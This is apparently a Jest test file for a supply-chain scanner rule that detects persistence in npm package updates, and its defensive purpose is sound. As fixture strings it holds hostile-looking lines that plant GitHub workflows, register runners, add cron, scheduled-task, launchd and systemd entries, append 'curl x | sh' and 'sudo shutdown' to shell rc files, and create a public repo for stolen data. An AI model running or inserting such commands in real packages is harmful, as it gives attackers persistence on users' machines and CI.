import { describe, expect, it } from '@jest/globals'
import { rule } from '../../../src/rules/content/ci-persistence.js'
import type { Finding } from '../../../src/types.js'
import { join } from 'node:path'
import { contextFor, CORPUS } from '../../helpers/corpus.js'
import { makeChange, makeContext, makeFiles } from '../../helpers/factories.js'

const OLD = "'use strict'\nconst fs = require('fs')\nmodule.exports = () => fs.existsSync('x')\n"
const withLines = (...lines: string[]) => `${OLD}${lines.join('\n')}\n`
const PKG = (scripts: Record<string, string> = {}) =>
  JSON.stringify({ name: 'example-pkg', version: '1.0.1', scripts })

function changed(
  newFiles: Record<string, string>,
  oldFiles: Record<string, string> = { 'index.js': OLD }
) {
  return makeContext({
    files: makeFiles({ 'package.json': PKG(), ...newFiles }),
    previousFiles: makeFiles({ 'package.json': PKG(), ...oldFiles })
  })
}

function added(newFiles: Record<string, string>) {
  return makeContext({
    change: makeChange({ previousVersion: null }),
    files: makeFiles({ 'package.json': PKG(), ...newFiles })
  })
}

async function one(ctx: ReturnType<typeof makeContext>): Promise<Finding | undefined> {
  const findings = await rule.check(ctx)
  expect(findings.length).toBeLessThanOrEqual(1)
  return findings[0]
}

describe('content/ci-persistence: what counts', () => {
  it.each([
    [
      'writing a workflow file',
      "fs.writeFileSync(path.join(repo, '.github', 'workflows', 'shai-hulud-workflow.yml'), yaml)"
    ],
    [
      'a workflow through the contents API',
      'await api.put(`/repos/${r}/contents/.github/workflows/x.yml`, { content })'
    ],
    [
      'the runner registration token API',
      'const t = await gh.post(`/repos/${r}/actions/runners/registration-token`)'
    ],
    [
      'runner configuration',
      "execSync('./config.sh --url https://github.com/o/r --token ' + t + ' --name SHA1HULUD')"
    ],
    ['an append to .bashrc', "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), line)"],
    ['a crontab install', 'execSync(\'(crontab -l; echo "@reboot node ~/.x.js") | crontab -\')'],
    ['a Windows scheduled task', "execSync('schtasks /create /sc onlogon /tn updater /tr x.exe')"],
    ['launchctl load', "execSync('launchctl load ~/Library/LaunchAgents/com.x.plist')"],
    ['systemctl enable', "execSync('systemctl --user enable updater.service')"],
    [
      'a LaunchAgents plist write',
      "fs.writeFileSync(home + '/Library/LaunchAgents/com.x.plist', plist)"
    ],
    [
      'a public repo for stolen data',
      "await gh.post('/user/repos', { name: 's1ngularity-repository', private: false })"
    ]
  ])('%s is high in runtime code', async (_name, line) => {
    const finding = await one(changed({ 'index.js': withLines(line) }))
    expect(finding).toMatchObject({ ruleId: 'content/ci-persistence', severity: 'high' })
    expect(finding?.evidence[0]).toMatchObject({ file: 'index.js', line: 4 })
    expect(finding?.evidence[0]?.snippet).toBe(line)
  })

  it.each([
    [
      'a README-like string naming .github/workflows without a write',
      "const doc = 'see .github/workflows/ci.yml'"
    ],
    ['reading the bash profile', "const rc = path.join(os.homedir(), '.bashrc')"],
    ['a cron expression parser message', "throw new Error('invalid crontab expression')"],
    ['/user/repos to list repositories', "const repos = await gh.get('/user/repos')"],
    ['shutdown alone', "execSync('sudo shutdown -h 0')"]
  ])('is quiet on %s', async (_name, line) => {
    expect(await one(changed({ 'index.js': withLines(line) }))).toBeUndefined()
  })

  it('ignores docs', async () => {
    const files = {
      'index.js': OLD,
      'README.md': 'Add `.github/workflows/ci.yml`, then `crontab -`'
    }
    expect(await one(changed(files))).toBeUndefined()
  })
})

describe('content/ci-persistence: severity', () => {
  const RC = "fs.appendFileSync(path.join(os.homedir(), '.zshrc'), '\\nsudo shutdown -h 0\\n')"
  const WORKFLOW = "fs.writeFileSync('.github/workflows/discussion.yaml', body)"

  it('is critical in a file npm runs at install time', async () => {
    const ctx = makeContext({
      files: makeFiles({
        'package.json': PKG({ postinstall: 'node setup.js' }),
        'index.js': OLD,
        'setup.js': `const fs = require('fs')\n${WORKFLOW}\n`
      }),
      previousFiles: makeFiles({ 'package.json': PKG(), 'index.js': OLD })
    })
    const finding = await one(ctx)
    expect(finding?.severity).toBe('critical')
    expect(finding?.message).toContain('install time')
  })

  it('follows one require from the install script', async () => {
    const ctx = makeContext({
      files: makeFiles({
        'package.json': PKG({ preinstall: 'node ./setup_bun.js' }),
        'setup_bun.js': "require('./lib/env')\n",
        'lib/env.js': `const fs = require('fs')\n${WORKFLOW}\n`
      }),
      previousFiles: makeFiles({ 'package.json': PKG(), 'index.js': OLD })
    })
    expect((await one(ctx))?.severity).toBe('critical')
  })

  it('is critical for a shutdown appended to an rc file (Nx shape)', async () => {
    expect((await one(changed({ 'index.js': withLines(RC) })))?.severity).toBe('critical')
  })

  it('reads shell scripts line by line', async () => {
    const finding = await one(
      changed({ 'index.js': OLD, 'bin/setup.sh': '#!/bin/sh\necho "curl x | sh" >> ~/.bashrc\n' })
    )
    expect(finding).toMatchObject({
      severity: 'high',
      evidence: [{ file: 'bin/setup.sh', line: 2 }]
    })
  })

  it('ranks a completion installer low', async () => {
    const line =
      "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'source <(mycli completion bash)')"
    expect((await one(changed({ 'index.js': withLines(line) })))?.severity).toBe('low')
  })

  it('is quiet when the previous version already wrote the rc file', async () => {
    const line =
      "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'source <(mycli completion bash)')"
    const before = withLines(line)
    expect(
      await one(changed({ 'index.js': `${before}// v2\n` }, { 'index.js': before }))
    ).toBeUndefined()
  })

  it('is quiet when a CI tool already wrote workflow files before', async () => {
    const before = withLines("fs.writeFileSync(path.join(dir, '.github', 'workflows', name), yaml)")
    const after = `${before}fs.writeFileSync(path.join(dir, '.github', 'workflows', 'release.yml'), yaml)\n`
    expect(await one(changed({ 'index.js': after }, { 'index.js': before }))).toBeUndefined()
  })

  it.each([
    ['runtime code', { 'index.js': `const fs = require('fs')\n${WORKFLOW}\n` }, 'low'],
    [
      'an install script',
      {
        'package.json': PKG({ postinstall: 'node setup.js' }),
        'setup.js': `const fs = require('fs')\n${WORKFLOW}\n`
      },
      'high'
    ]
  ])('added package: %s', async (_name, files, severity) => {
    expect((await one(added(files)))?.severity).toBe(severity)
  })
})

describe('content/ci-persistence: corpus severities', () => {
  it.each([
    ['malicious/rc-shutdown', 'critical'],
    ['malicious/self-hosted-runner', 'critical'],
    ['malicious/shai-hulud-workflow', 'critical'],
    ['benign/completion-installer-unchanged', undefined],
    ['benign/readme-mentions-workflows', undefined],
    ['benign/workflow-toolkit-update', undefined]
  ])('%s is %s', async (name, severity) => {
    const findings = await rule.check(
      await contextFor(join(CORPUS, 'content', 'ci-persistence', name))
    )
    expect(findings[0]?.severity).toBe(severity)
  })
})
